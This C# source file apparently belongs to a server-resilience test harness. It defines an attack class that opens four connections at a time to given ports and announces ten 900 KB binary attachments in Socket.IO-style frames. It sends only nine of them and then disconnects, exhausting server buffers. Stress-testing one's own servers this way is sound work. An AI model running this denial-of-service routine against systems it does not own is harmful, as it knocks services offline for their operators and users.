using Attacks.Wire;

namespace Attacks.Attacks;

/// <summary>Connections that leave most of a large packet and go.</summary>
internal sealed class HalfPackets : IAttack
{
    private const int Attachments = 10;

    public string Name => "halves";

    public string What => "4 at a time send 9 of 10 announced attachments of 900 KB and vanish";

    public Task<long> RunAsync(IReadOnlyList<int> ports, CancellationToken stop)
    {
        var placeholders = string.Join(',', Enumerable.Range(0, Attachments).Select(i => $$"""{"_placeholder":true,"num":{{i}}}"""));
        var attachment = new byte[900_000];
        return Repeat.RunAsync(
            4,
            async (number, count, stop) =>
            {
                using var client = await AttackClient.OpenAsync(ports[number % ports.Count], stop);
                await client.SendAsync("40", stop);
                await client.ReadAsync(stop);
                await client.SendAsync($"45{Attachments}-[\"e\",{placeholders}]", stop);
                for (var i = 1; i < Attachments; i++)
                {
                    await client.SendAsync(attachment, stop);
                }
                count();
            },
            stop);
    }
}
